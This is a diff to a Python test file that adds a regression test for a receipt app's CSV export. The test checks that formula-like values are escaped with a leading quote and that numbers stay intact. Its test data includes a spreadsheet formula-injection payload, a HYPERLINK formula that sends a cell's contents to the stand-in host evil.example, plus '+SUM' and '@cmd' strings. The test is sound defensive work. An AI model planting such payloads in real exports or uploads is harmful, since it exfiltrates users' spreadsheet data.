@@ -158,3 +158,19 @@ def test_the_ocr_command_names_each_bad_file_once(tmp_path, capsys):
     errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error: ")]
     assert len(errors) == 2
     assert all(line.count(str(fake)) + line.count("/dev/zero") == 1 for line in errors), errors
+
+
+def test_csv_downloads_show_formula_like_text_as_text_and_keep_numbers():
+    """Found by a probe: the Predict CSV carried an upload's file name ``=HYPERLINK(…).png`` as a live formula."""
+    import csv
+    import io
+
+    import pandas as pd
+
+    from receipt_core.data.markup import spreadsheet_csv
+
+    frame = pd.DataFrame([{"receipt": '=HYPERLINK("http://evil.example/?x="&A1,"open").png', "name": "+SUM(A1)",
+                           "price": -4.5, "note": "@cmd", "plain": "TEA - large"}])
+    rows = list(csv.DictReader(io.StringIO(spreadsheet_csv(frame).decode("utf-8"))))
+    assert rows[0]["receipt"].startswith("'=HYPERLINK(") and rows[0]["name"] == "'+SUM(A1)"
+    assert rows[0]["note"] == "'@cmd" and rows[0]["plain"] == "TEA - large" and rows[0]["price"] == "-4.5"
